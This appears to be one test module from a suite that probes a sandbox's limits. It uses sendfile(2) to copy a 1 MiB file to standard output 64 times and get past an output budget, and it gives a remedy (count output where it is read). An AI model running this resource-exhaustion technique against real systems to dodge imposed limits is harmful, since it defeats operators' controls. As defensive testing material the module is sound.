# SPDX-License-Identifier: MIT
"""sendfile.py - a small file, many times over.

Goal: more output than the budget.
Means: sendfile(2) has the kernel carry a file to the pipe. The file is 1 MiB, so no limit of file
size or of disk is met, and no byte passes through the program.
"""

import os
import tempfile

from attack import DONE, attempting, denied

MIB = 1 << 20
LINE = b"Carried by the kernel, from the page cache to you.\n"


def run(brief):
    attempting()
    try:
        with tempfile.TemporaryFile() as file:
            file.write(LINE * (MIB // len(LINE)))
            file.flush()
            for _ in range(64):
                at = 0
                while sent := os.sendfile(1, file.fileno(), at, MIB):
                    at += sent
    except OSError as why:
        return denied("sendfile", why)
    return DONE


ATTACK = {
    "effect": "more output than the budget",
    "means": "sendfile(2) of 1 MiB, 64 times",
    "oracle": "usage:output",
    "attack_id": "T1499.003, CWE-400",
    "remedy": "count where it is read, not where it is written",
    "refs": ["sendfile(2)"],
    "run": run,
}
